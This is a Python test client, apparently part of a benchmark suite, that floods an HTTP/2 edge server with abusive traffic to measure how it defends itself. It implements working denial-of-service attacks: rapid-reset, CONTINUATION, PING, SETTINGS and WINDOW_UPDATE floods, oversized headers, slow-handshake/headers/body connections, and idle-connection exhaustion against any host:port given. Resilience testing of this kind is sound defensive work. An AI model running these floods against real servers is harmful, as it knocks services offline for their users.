"""One who means harm, for a time and at a pace: `python -m bench.abuse_client ATTACK HOST:PORT SECONDS`.

Speaks to the edge in frames and bytes that no honest client sends, over sockets of its own, and prints as JSON how
often the edge ended it. `bench.abuse` and the tests start it.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import ssl
import sys
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from time import monotonic, process_time, sleep

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

TICK_SECONDS = 0.02
TIMEOUT_SECONDS = 5.0
OPENED_A_SECOND = 400
CANCEL = 8
PATH = "/v1/status"


def _frames(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def _block(*extra: tuple[str, str]) -> bytes:
    """Headers of a good request and then some, in a form that leaves no trace in the tables of HPACK."""
    pairs = [(":method", "GET"), (":scheme", "https"), (":path", PATH), (":authority", "edge"), *extra]
    return Encoder().encode([NeverIndexedHeaderTuple(*pair) for pair in pairs])


_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frames(SettingsFrame(0))
_REQUEST = _block()
# As long as eight frames can make it, eight times what the edge takes.
_LONG = _block(*((f"x-{number}", "a" * 16_000) for number in range(8)))
_FRAME_BYTES = 16_384


def _request_and_reset(turn: int) -> bytes:
    stream = 2 * turn + 1
    headers = HeadersFrame(stream, _REQUEST, flags=["END_HEADERS", "END_STREAM"])
    return _frames(headers, RstStreamFrame(stream, CANCEL))


def _long_headers(turn: int) -> bytes:
    stream = 2 * turn + 1
    first, *rest = (_LONG[at : at + _FRAME_BYTES] for at in range(0, len(_LONG), _FRAME_BYTES))
    continued = [ContinuationFrame(stream, part) for part in rest]
    continued[-1].flags.add("END_HEADERS")
    return _frames(HeadersFrame(stream, first, flags=["END_STREAM"]), *continued)


def _continuation(turn: int) -> bytes:
    return _frames(ContinuationFrame(1, Encoder().encode([NeverIndexedHeaderTuple(f"x-{turn}", "a" * 500)])))


def _ping(turn: int) -> bytes:
    return _frames(PingFrame(0, turn.to_bytes(8, "big")))


def _settings(turn: int) -> bytes:
    return _frames(SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535 + turn % 2}))


def _window_update(turn: int) -> bytes:
    return _frames(WindowUpdateFrame(0, 1 + turn % 2))


def _nothing(_: int) -> bytes:
    return b""


@dataclass(frozen=True)
class Attack:
    """What is sent on each of so many connections: once, and then so many times a second in all."""

    connections: int
    units_per_second: int
    unit: Callable[[int], bytes]
    opening: bytes = b""
    # None: no TLS at all.
    alpn: str | None = "h2"
    # Whether it takes in what the edge answers.
    reads: bool = True


_HTTP_1 = b"POST /v1/sessions HTTP/1.1\r\nhost: edge\r\ncontent-type: application/json\r\n"
_HEADERS_BEGIN = _PREFACE + _frames(HeadersFrame(1, _REQUEST, flags=["END_STREAM"]))

ATTACKS = {
    "rapid reset": Attack(4, 4000, _request_and_reset, _PREFACE),
    "CONTINUATION": Attack(4, 2000, _continuation, _HEADERS_BEGIN),
    "PING": Attack(4, 8000, _ping, _PREFACE),
    "PING, answers unread": Attack(1, 60_000, _ping, _PREFACE, reads=False),
    "SETTINGS": Attack(4, 8000, _settings, _PREFACE),
    "SETTINGS, answers unread": Attack(1, 60_000, _settings, _PREFACE, reads=False),
    "WINDOW_UPDATE": Attack(4, 8000, _window_update, _PREFACE),
    "huge headers": Attack(8, 400, _long_headers, _PREFACE),
    "slow handshake": Attack(
        500, 500, lambda turn: b"\x00" if turn else b"", b"\x16\x03\x01\x02\x00\x01", alpn=None
    ),
    "slow headers": Attack(500, 500, lambda turn: b"x-%d: a\r\n" % turn, _HTTP_1, alpn="http/1.1"),
    "slow body": Attack(
        500, 500, lambda _: b" ", _HTTP_1 + b"content-length: 60000\r\n\r\n", alpn="http/1.1"
    ),
    "idle connections": Attack(2000, 0, _nothing),
}


@dataclass
class Tally:
    """What the attacker did, and what became of it."""

    opened: int = 0
    refused: int = 0
    ended_by_the_edge: int = 0
    units: int = 0
    # Of connections that the edge ended.
    longest_seconds: float = 0
    processor_seconds: float = 0


@dataclass
class _Connection:
    socket: socket.socket
    opened_at: float = field(default_factory=monotonic)
    turn: int = 0


class Attacker:
    """Keeps the attack's connections open and sends its units, at its pace."""

    def __init__(self, attack: Attack, address: tuple[str, int]) -> None:
        self.tally = Tally()
        self._attack = attack
        self._address = address
        self._connections: list[_Connection] = []
        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self._tls.check_hostname = False
        self._tls.verify_mode = ssl.VerifyMode.CERT_NONE
        self._tls.set_alpn_protocols([attack.alpn or "h2"])

    def run(self, seconds: float) -> Tally:
        """Until the time is over; what is still open then is closed."""
        end, owed = monotonic() + seconds, 0.0
        while (now := monotonic()) < end:
            self._open_missing()
            owed += self._attack.units_per_second * TICK_SECONDS
            self._send(int(owed))
            owed -= int(owed)
            self._look()
            # No pace is made up for: a machine that is busy is attacked more slowly, not in bursts.
            sleep(max(0.0, now + TICK_SECONDS - monotonic()))
        for connection in self._connections:
            connection.socket.close()
        self.tally.processor_seconds = process_time()
        return self.tally

    def _open_missing(self) -> None:
        missing = self._attack.connections - len(self._connections)
        for _ in range(min(missing, round(OPENED_A_SECOND * TICK_SECONDS))):
            try:
                self._connections.append(self._open())
            except OSError:
                self.tally.refused += 1
            else:
                self.tally.opened += 1

    def _open(self) -> _Connection:
        opened = socket.create_connection(self._address, timeout=TIMEOUT_SECONDS)
        if self._attack.alpn:
            opened = self._tls.wrap_socket(opened, server_hostname="localhost")
        opened.sendall(self._attack.opening)
        opened.setblocking(False)
        return _Connection(opened)

    def _send(self, units: int) -> None:
        """So many in all, the connections taking turns."""
        if not self._connections:
            return
        share, rest = divmod(units, len(self._connections))
        for place, connection in enumerate(list(self._connections)):
            count = share + (place < rest)
            if count:
                data = b"".join(self._attack.unit(connection.turn + number) for number in range(count))
                self._try_to_send(connection, data, count)
        # Another begins next time, where there are fewer units than connections.
        self._connections = self._connections[rest:] + self._connections[:rest]

    def _try_to_send(self, connection: _Connection, data: bytes, count: int) -> None:
        try:
            connection.socket.settimeout(TICK_SECONDS)
            connection.socket.sendall(data)
        except TimeoutError:
            # Half a unit is on its way: what follows would make no sense.
            self._ended(connection, by_the_edge=False)
        except OSError:
            self._ended(connection)
        else:
            connection.turn += count
            self.tally.units += count

    def _look(self) -> None:
        """Whether the edge closed any; reads what it sent, where the attack does."""
        for connection in list(self._connections):
            if self._attack.reads and self._is_closed(connection):
                self._ended(connection)

    @staticmethod
    def _is_closed(connection: _Connection) -> bool:
        connection.socket.setblocking(False)
        try:
            while data := connection.socket.recv(65_536):
                if data[3:4] == b"\x07" and len(data) >= 17:
                    # GOAWAY: the rest would be ignored.
                    return True
        except (BlockingIOError, ssl.SSLWantReadError):
            return False
        except OSError:
            return True
        return True

    def _ended(self, connection: _Connection, *, by_the_edge: bool = True) -> None:
        connection.socket.close()
        self._connections.remove(connection)
        if by_the_edge:
            self.tally.ended_by_the_edge += 1
            self.tally.longest_seconds = max(self.tally.longest_seconds, monotonic() - connection.opened_at)


def main() -> None:
    """The command line."""
    parser = argparse.ArgumentParser(prog="bench.abuse_client", description=__doc__)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("address", help="host:port of an edge")
    parser.add_argument("seconds", type=float)
    parser.add_argument(
        "--idle",
        action="store_true",
        help="run only when nobody else wants the processor: measure the edge alone",
    )
    arguments = parser.parse_args()
    host, _, port = arguments.address.rpartition(":")
    if arguments.idle:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    tally = Attacker(ATTACKS[arguments.attack], (host, int(port))).run(arguments.seconds)
    json.dump(asdict(tally), sys.stdout)


if __name__ == "__main__":
    main()
